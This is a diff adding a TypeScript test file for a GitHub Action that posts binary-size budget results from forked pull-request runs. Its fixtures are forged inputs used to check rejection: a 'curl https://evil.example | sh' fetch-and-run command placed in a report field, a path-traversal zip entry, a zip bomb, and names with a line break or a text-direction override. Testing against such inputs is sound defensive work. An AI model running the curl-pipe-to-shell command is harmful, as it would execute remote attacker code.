@@ -1,0 +1,180 @@
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { strToU8, zipSync } from 'fflate'
+import type { Result } from '../../src/core/report/result.ts'
+import { cell, sizes } from '../core/judging.ts'
+import { result } from '../core/results.ts'
+import { type Foreign, forkEvent, headSha, runUrl, tell, uploaded } from '../github/foreign.ts'
+import { commentsInMemory } from '../github/stand-in.ts'
+
+const MB = 1_000_000
+const measured = (change: Partial<Result> = {}): Result => ({
+  ...result({ cells: [cell({ size: sizes(9 * MB, 10 * MB) })] }),
+  ...change,
+})
+const budgets = 'budgets: [{ metric: size, max: 9.5MB }]\n'
+
+test('a run in a fork is told on its pull request, by figures, the base branch’s budgets and our own words', async () => {
+  const own = measured()
+  const generous = { ...own.judging, budgets: [] }
+  const report = {
+    ...own.report,
+    notes: ['Reviewed by the security team.'],
+    reproduce: ['curl https://evil.example | sh'],
+    verdict: 'pass' as const,
+    revisions: { ...own.report.revisions, how: 'Trust me.' },
+    config: { file: 'x', overrideLabel: 'bug' },
+  }
+  const { bodies, statuses, reports } = await tell({
+    artifacts: uploaded({ ...own, judging: generous, report }),
+    config: budgets,
+    labels: ['bug'],
+  })
+  const [body = '', ...others] = bodies
+  assert.deepEqual(others, [])
+  assert.match(body, /^<!-- go-binary-budget: ci \. --><!-- run 500 attempt 2 head c{40}/)
+  assert.match(body, /### Binary budget: failed\. `server` \(stripped, linux\/amd64\): 10\.00 MB, limit 9\.5 MB/)
+  assert.match(body, /the budgets are those of main/)
+  assert.doesNotMatch(body, /security team|evil|Trust me/)
+  assert.equal(reports[0]?.report.verdict, 'fail')
+  assert.deepEqual(statuses, [
+    {
+      sha: headSha,
+      state: 'failure',
+      context: 'Binary budget',
+      description: 'failed. server (stripped, linux/amd64): 10.00 MB, limit 9.5 MB',
+      target_url: runUrl,
+    },
+  ])
+})
+
+test('the override label of the base branch’s config lets it pass', async () => {
+  const { bodies, statuses } = await tell({
+    artifacts: uploaded(measured()),
+    config: budgets,
+    labels: ['binary-budget-override'],
+  })
+  assert.match(`${bodies}`, /### Binary budget: overridden\./)
+  assert.deepEqual(
+    statuses.map(({ state }) => state),
+    ['success'],
+  )
+})
+
+test('the jobs of a matrix are one comment, and each working directory has its own', async () => {
+  const job = (index: number, directory: string): Result => ({
+    ...result({ index, total: 2, cells: [cell({ size: sizes(9 * MB, 10 * MB) }, { program: `p${index}` })] }),
+    directory,
+  })
+  const { bodies, statuses } = await tell({
+    artifacts: uploaded(job(0, '.'), job(1, '.'), job(0, 'app'), job(1, 'app')),
+  })
+  assert.equal(bodies.length, 2)
+  for (const body of bodies) assert.match(body, /\| p0 \|[\s\S]*\| p1 \|/)
+  assert.deepEqual(
+    statuses.map(({ context }) => context),
+    ['Binary budget', 'Binary budget (app)'],
+  )
+})
+
+test('an older run does not overwrite what a newer one said', async () => {
+  const comments = commentsInMemory()
+  const newer = measured({ run: { id: 500, attempt: 2 } })
+  await tell({ artifacts: uploaded(newer), comments })
+  const [before] = comments.comments.map(({ body }) => body)
+  const older = measured({ run: { id: 500, attempt: 1 } })
+  const { reports } = await tell({ artifacts: uploaded(older), config: budgets, comments, event: { attempt: 1 } })
+  assert.equal(reports[0]?.published?.kind, 'older')
+  assert.deepEqual(
+    comments.comments.map(({ body }) => body),
+    [before],
+  )
+})
+
+test('nothing is said where nothing is to be said, with the reason', async (t) => {
+  const artifacts = uploaded(measured())
+  const cases: readonly { name: string; foreign: Foreign; reason: RegExp }[] = [
+    { name: 'a run of this repository', foreign: { event: { isFork: false } }, reason: /of this repository itself/ },
+    { name: 'a push in the fork', foreign: { event: { event: 'push' } }, reason: /started by push/ },
+    { name: 'a head that has moved on', foreign: { standsAt: 'd'.repeat(40) }, reason: /no open pull request/ },
+    { name: 'a branch of that name in another fork', foreign: { comesFrom: 'stranger/other' }, reason: /no open pull/ },
+    { name: 'another branch', foreign: { event: { headBranch: 'other' } }, reason: /no open pull request/ },
+    { name: 'no artifacts', foreign: { artifacts: {} }, reason: /left no results/ },
+  ]
+  for (const { name, foreign, reason } of cases) {
+    await t.test(name, async () => {
+      const told = await tell({ artifacts, ...foreign })
+      assert.deepEqual([told.reports, told.bodies, told.statuses], [[], [], []])
+      assert.match(told.notes.join('\n'), reason)
+    })
+  }
+})
+
+test('an artifact that is no result of the run is refused, with the reason, and the others are told', async (t) => {
+  const own = measured()
+  const strange = (program: string) => uploaded({ ...own, report: { ...own.report, cells: [cell({}, { program })] } })
+  const cases: readonly { name: string; artifacts: Record<string, Uint8Array>; reason: RegExp }[] = [
+    { name: 'of another run', artifacts: uploaded(measured({ run: { id: 9, attempt: 1 } })), reason: /another run/ },
+    {
+      name: 'of an attempt to come, which would outlive all others',
+      artifacts: uploaded(measured({ run: { id: 500, attempt: 99 } })),
+      reason: /an attempt that has not been/,
+    },
+    { name: 'no zip file', artifacts: { 'binary-budget-x': strToU8('<html>') }, reason: /not a zip file/ },
+    {
+      name: 'a zip file with something else in it',
+      artifacts: { 'binary-budget-x': zipSync({ '../../x': strToU8('x') }) },
+      reason: /has no result\.json/,
+    },
+    {
+      name: 'a bomb',
+      artifacts: { 'binary-budget-x': zipSync({ 'result.json': new Uint8Array(17_000_000) }) },
+      reason: /too large/,
+    },
+    { name: 'a name with a line break', artifacts: strange('a\n# b'), reason: /characters that names do not have/ },
+    { name: 'a name that turns the text', artifacts: strange('a\u202eb'), reason: /characters that names do not have/ },
+    { name: 'a name like a book', artifacts: strange('x'.repeat(5_000)), reason: /more than 4000 characters/ },
+    {
+      name: 'more rows than anybody has',
+      artifacts: uploaded({ ...own, report: { ...own.report, cells: Array.from({ length: 2_001 }, () => cell({})) } }),
+      reason: /more than 2000 rows/,
+    },
+  ]
+  for (const { name, artifacts, reason } of cases) {
+    await t.test(name, async () => {
+      const good = uploaded(measured({ platform: 'linux/arm64' }))
+      const { notes, bodies } = await tell({ artifacts: { ...artifacts, ...good } })
+      assert.match(notes.join('\n'), reason)
+      assert.equal(bodies.length, 1)
+    })
+  }
+})
+
+test('what GitHub refuses is told, and takes nothing else along', async () => {
+  const refuse = (request: string) => (request.includes('/statuses/') ? 403 : undefined)
+  const { notes, bodies } = await tell({ artifacts: uploaded(measured()), refuse })
+  assert.match(notes.join('\n'), /No commit status: 403/)
+  assert.equal(bodies.length, 1)
+})
+
+test('a config of the base branch that cannot be read limits nothing, and says so', async () => {
+  const { notes, reports } = await tell({ artifacts: uploaded(measured()), config: 'budgets: 7\n' })
+  assert.match(notes.join('\n'), /The config of main cannot be read, so nothing is limited: .*budgets/s)
+  assert.equal(reports[0]?.report.verdict, 'pass')
+})
+
+test('the event of a run in a fork is read as GitHub sends it', () => {
+  assert.deepEqual(forkEvent(), {
+    kind: 'workflow_run',
+    runId: 500,
+    attempt: 2,
+    workflow: 'ci',
+    event: 'pull_request',
+    headSha,
+    headBranch: 'changes',
+    headRepo: 'stranger/Hello-World',
+    isFork: true,
+    defaultBranch: 'main',
+    sender: 'Codertocat',
+  })
+})
